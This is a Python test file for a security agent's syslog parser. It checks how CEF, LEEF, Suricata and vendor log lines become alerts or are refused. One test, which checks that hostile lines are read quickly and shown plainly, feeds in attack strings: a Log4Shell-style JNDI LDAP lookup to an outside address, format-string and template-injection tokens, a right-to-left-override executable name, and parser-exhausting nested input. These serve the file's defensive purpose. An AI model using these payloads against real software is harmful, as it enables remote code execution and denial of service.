"""A line becomes an alert of its own source, or is refused with the reason; nothing in it can do more."""

import json
import time
from datetime import timedelta

import pytest

from secops_agent.services.records.identity import alert_identity, event_mark
from secops_agent.syslog.payloads import read_event
from secops_agent.syslog.reading import MOST_ALERTS, LineOrigin, read_line
from tests.secops.importers import cn_samples, cn_samples_hosts
from tests.secops.syslog.lines_aid import NOW, alert, line, read, source

EVE = {
    "timestamp": "2026-11-26T11:59:00+0800", "event_type": "alert", "src_ip": "203.0.113.7", "dest_ip": "10.0.0.9",
    "flow_id": 1, "alert": {"signature_id": 2001, "signature": "ET SCAN", "severity": 1},
}  # fmt: skip


def test_cef() -> None:
    found = alert(
        r"<34>Nov 26 11:59:00 waf CEF:0|Acme|WAF|1.0|100|SQL \| injection|8|src=203.0.113.9 dst=10.0.0.8 "
        r"request=http://a.example/?q\=1 msg=two words cs1Label=rule cs1=a\\b fileHash=" + "a" * 32
    )
    assert (found.source, found.title, found.severity) == ("防火墙", "SQL | injection", "high")
    assert found.dedup_key == ("Acme:WAF:100", "203.0.113.9", "10.0.0.8")
    assert found.raw["fields"]["msg"] == "two words"
    assert found.raw["fields"]["cs1"] == r"a\b"
    assert [asset.name for asset in found.assets] == ["10.0.0.8"]
    assert {each.kind for each in found.indicators} == {"ip", "url", "hash"}


@pytest.mark.parametrize(
    "text",
    [
        "LEEF:1.0|Acme|IPS|2|SCAN|src=203.0.113.9\tdst=10.0.0.8\tsev=9\tcat=Port scan",
        "LEEF:2.0|Acme|IPS|2|SCAN|^|src=203.0.113.9^dst=10.0.0.8^sev=9^cat=Port scan",
        "LEEF:2.0|Acme|IPS|2|SCAN|x7C|src=203.0.113.9|dst=10.0.0.8|sev=9|cat=Port scan",
        "LEEF:2.0|Acme|IPS|2|SCAN|src=203.0.113.9\tdst=10.0.0.8\tsev=9\tcat=Port scan",
    ],
)
def test_leef(text: str) -> None:
    found = alert(f"<34>Nov 26 11:59:00 ips {text}")
    assert (found.title, found.severity) == ("Port scan", "critical")
    assert found.dedup_key == ("Acme:IPS:SCAN", "203.0.113.9", "10.0.0.8")


@pytest.mark.parametrize("text", ["CEF:0|only|three", "LEEF:1.0|x", "CEF:", "CEF:0|a|b|c|d|e|f"])
def test_a_broken_event_is_a_plain_line(text: str) -> None:
    assert read_event(text) is None
    assert alert(f"<34>Nov 26 11:59:00 fw {text}").raw["format"] == "plain"


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("fw-01 %ASA-4-106023: Deny tcp src outside:203.0.113.5/4444 dst inside:10.0.0.5/22", ["10.0.0.5"]),
        ("gw kernel: [1.4] DROP IN=eth0 SRC=203.0.113.5 DST=10.0.0.5 LEN=40 DPT=22", ["10.0.0.5"]),
        (
            "fw %%01SEC/4/IPS(l)[1]: An intrusion. (SrcIp=203.0.113.5, DstIp=10.0.0.5, DstPort=80)",
            ["10.0.0.5"],
        ),
        ("fw 攻击类型=SQL注入 源IP:203.0.113.5 目的IP:10.0.0.5 动作:阻断", ["10.0.0.5"]),
        ("fw Teardown src=10.0.0.7 dst=10.0.0.5", ["10.0.0.5", "10.0.0.7"]),
        ("fw Deny src=10.0.0.7 dst=203.0.113.5", ["10.0.0.7"]),
        ("fw Deny src=198.51.100.7 dst=203.0.113.5", ["fw"]),
        ("fw link down dst=10.0.0.5", ["fw"]),
        ("jump-01 sshd[1]: Invalid user src=1.1.1.1,dst=10.0.0.9 from 203.0.113.5", ["jump-01"]),
        ("web-01 nginx: GET /?src=1.1.1.1&dst=10.0.0.9", ["web-01"]),
    ],
)
def test_a_gateways_line_is_about_the_ends_that_it_names_and_a_hosts_own_line_about_the_host(
    text: str, names: list[str]
) -> None:
    assert [asset.name for asset in alert(f"<36>Nov 26 11:59:00 {text}").assets] == names


def test_plain_lines_of_one_kind_are_one_alert() -> None:
    one, two, other = (
        alert(f"<36>Nov 26 11:59:0{second} web-01 sshd[{second}]: {text}")
        for second, text in (
            (1, "Failed password for root from 203.0.113.5 port 4242"),
            (2, "Failed password for root from 203.0.113.6 port 99"),
            (3, "Accepted password for root from 203.0.113.6 port 99"),
        )
    )
    assert alert_identity(one) == alert_identity(two) != alert_identity(other)
    assert event_mark("x", one) != event_mark("x", two)
    assert one.indicators[0].value == "203.0.113.5"


def test_lines_that_tell_little_are_passed_over() -> None:
    assert read("<14>Nov 26 11:59:00 web-01 app: hello") == read("<15>debug")
    assert not read("<14>Nov 26 11:59:00 web-01 app: hello").alerts
    assert alert("<14>Nov 26 11:59:00 web-01 app: hello", source(plain_level=6)).severity == "info"


def test_the_same_line_again_is_the_same_occurrence() -> None:
    text = "<36>Nov 26 11:59:01 web-01 sshd[1]: again"
    later = read_line(line(text, at=NOW + timedelta(hours=1))).alerts[0]
    assert event_mark("x", alert(text)) == event_mark("x", later)
    bare = "<36>no time in it"
    later = read_line(line(bare, at=NOW + timedelta(seconds=1))).alerts[0]
    assert event_mark("x", alert(bare)) != event_mark("x", later)


def test_gbk_is_read_where_the_source_says_so() -> None:
    data = "<34>Nov 26 11:59:00 fw 入侵检测: 发现攻击".encode("gbk")
    assert alert(data, source(encoding="gb18030")).title == "发现攻击"
    refused = read(data)
    assert (refused.alerts, "不是 UTF-8 编码，像是 GBK：" in refused.refusal) == ((), True)
    other = read_line(line("来自毕方的测试".encode(), source(encoding="gb18030")))
    assert "编码，像是 UTF-8：" in other.refusal
    neither = read_line(line(b"\xff\xfe\x80 \xff", source(encoding="gb18030")))
    assert "像是" not in neither.refusal


def test_a_cut_line_is_marked_and_no_half_character_refuses_it() -> None:
    data = "<34>Nov 26 11:59:00 fw app: 中".encode()[:-1]
    found = alert(data, size=70_000)
    assert found.raw["cut_from_bytes"] == 70_000
    assert f"原文 70000 字节，只收下前 {len(data)} 字节" in found.description


def test_json_goes_to_the_importer_that_knows_it() -> None:
    found = alert("<34>Nov 26 11:59:00 ids suricata[7]: " + json.dumps(EVE))
    assert (found.rule_id, found.source) == ("1:2001", "防火墙")
    cookie = alert("<34>Nov 26 11:59:00 ids x: @cee: " + json.dumps(EVE))
    assert cookie.rule_id == "1:2001"
    unknown = alert('<34>Nov 26 11:59:00 app x: {"hello": "world"}')
    assert unknown.raw["format"] == "plain"


SIP = "|!alarm|!10.0.9.9|!" + json.dumps(cn_samples_hosts.SIP_ALARM, ensure_ascii=False)
SKYEYE = "2026-11-20|!10.0.9.9|!alarm|!" + json.dumps(cn_samples.SKYEYE)


@pytest.mark.parametrize(
    ("text", "title"),
    [
        (f"<14>2026-11-20 09:30:01{SIP}", "SSH 口令暴力破解"),
        (f"2026-11-20T09:30:01.468356+08:00 2026-11-20 09:30:01{SIP}", "SSH 口令暴力破解"),
        (f"<14>2026-11-20 09:30:01{SIP}\0", "SSH 口令暴力破解"),
        (f"<12>Nov 20 08:30:01 skyeye: {SKYEYE}", "疑似下载脚本文件"),
        (cn_samples_hosts.QT_LINE, "反弹 Shell"),
        (f"<14>Nov 20 08:30:05 sensor qtAlert[7]: {cn_samples_hosts.QT_PAIRS}", "反弹 Shell"),
    ],
)
def test_devices_with_a_header_of_their_own_are_known(text: str, title: str) -> None:
    # As a connection cuts it.
    found = alert(text.rstrip("\0"))
    assert (found.title, found.source, len(found.assets)) == (title, "防火墙", 1)
    assert found.severity in ("medium", "high")


@pytest.mark.parametrize(
    "text",
    [
        f"Invalid user 2026-11-20 09:30:01{SIP}",
        f"user=2026-11-20 09:30:01{SIP}",
        f"GET /?{cn_samples_hosts.QT_PAIRS}",
        f"bad command: qtAlert {cn_samples_hosts.QT_PAIRS}",
    ],
)
def test_a_log_that_quotes_such_a_line_is_a_log(text: str) -> None:
    assert alert(f"<34>Nov 26 11:59:00 web-01 sshd[7]: {text}").raw["format"] == "plain"


def test_what_such_a_device_cuts_or_breaks_is_refused_with_the_reason() -> None:
    text = f"<14>2026-11-20 09:30:01{SIP}"
    assert "不是有效的 JSON" in read(text[:-40], size=90_000).refusal
    quiet = read(cn_samples_hosts.QT_LINE.replace("bounce_shell", "net_connect"))
    assert (quiet.alerts, "不是入侵告警" in quiet.refusal) == ((), True)


def test_a_host_is_found_by_what_others_know_it_by() -> None:
    [asset] = alert(cn_samples_hosts.QT_LINE).assets
    assert [(key.kind, key.value) for key in asset.keys] == [("hostname", "pay-gateway-3")]


def test_a_fixed_format_refuses_other_lines() -> None:
    of = source(format="suricata")
    assert alert(json.dumps(EVE), of).rule_id == "1:2001"
    assert "不像是 suricata" in read("<34>Nov 26 11:59:00 ids rsyslogd: start", of).refusal
    assert read(json.dumps(EVE | {"event_type": "dns"}), of) == read("<15>debug")


def generic(**alert_fields: object) -> str:
    return "<34>Nov 26 11:59:00 h app: " + json.dumps(
        {"source": "wazuh", "alerts": [{"title": "t", **alert_fields}]}
    )


def test_a_line_cannot_speak_for_another_source() -> None:
    found = alert(generic(dedup_key=["rule", "host"], event_id="1", source="wazuh"))
    assert found.source == "防火墙"


def test_a_line_joins_no_assets_and_changes_none() -> None:
    asset = {
        "hostname": "web-01", "cloud_id": "i-1", "ips": ["10.0.0.1"], "owner": "mallory", "importance": "low",
        "tags": ["x"], "environment": "test", "description": "y",
    }  # fmt: skip
    (found,) = alert(generic(assets=[asset])).assets
    assert len(found.keys) == 1
    assert not any(
        (found.ips, found.owner, found.importance, found.tags, found.environment, found.description)
    )
    (named,) = alert("<34>Nov 26 11:59:00 web-01.corp.example app: x").assets
    assert [key.kind for key in named.keys] == ["fqdn", "hostname"]


def test_a_line_of_the_future_stays_in_the_present() -> None:
    found = alert(generic(occurred_at="2099-01-01T00:00:00Z", last_seen="2099-01-01T00:00:00Z"))
    assert found.occurred_at == found.last_seen == found.first_seen == NOW


def test_only_alerts_come_in() -> None:
    refused = read("<34>Nov 26 11:59:00 h app: " + json.dumps({"assets": [{"hostname": "web-01"}]}))
    assert refused.alerts == ()
    assert "只收告警" in refused.refusal


def test_one_line_is_not_thousands_of_alerts() -> None:
    many = {"alerts": [{"title": f"t{n}"} for n in range(2000)]}
    reading = read("<34>Nov 26 11:59:00 h app: " + json.dumps(many))
    assert len(reading.alerts) == MOST_ALERTS
    assert f"多于 {MOST_ALERTS} 条" in reading.refusal


@pytest.mark.parametrize(
    "text",
    [
        "{" * 30_000,
        '{"alerts":' * 3000,
        '{"a":' + "[" * 20_000,
        '[{"a":' * 5000,
        '{"n": ' + "9" * 60_000 + "}",
        '{"event_type":"alert","timestamp":"x","alert":{"signature_id":[[[[]]]]}}',
        "CEF:0|" + "\\" * 60_000,
        "CEF:0|a|b|c|d|e|5|" + "k=" * 30_000,
        "LEEF:2.0|a|b|c|d|x0|" + "=" * 60_000,
        "\x1b[2J\u202egpj.exe\u0000\u200b",
        "%s%n%x {0.__class__} {{x}} ${jndi:ldap://203.0.113.1/a}",
    ],
)
def test_hostile_lines_are_read_quickly_and_shown_plainly(text: str) -> None:
    started = time.process_time()
    reading = read(f"<34>Nov 26 11:59:00 fw app: {text}")
    for found in reading.alerts:
        assert found.title.isprintable()
        assert "\0" not in json.dumps(dict(found.raw), ensure_ascii=False)
    assert time.process_time() - started < 20  # about 2 ms: nothing quadratic
    assert reading.alerts or reading.refusal


def test_structured_data_cannot_make_the_reader_slow() -> None:
    text = "<34>1 - h a p m [" + 'x y="' * 12_000
    assert read(text).alerts


def test_an_origin_without_a_name_is_known_by_its_address() -> None:
    assert LineOrigin("x", "10.0.0.5", b"", NOW).size == 0
    found = read_line(line("<34>words only")).alerts[0]
    assert found.dedup_key[-1] == "203.0.113.9"
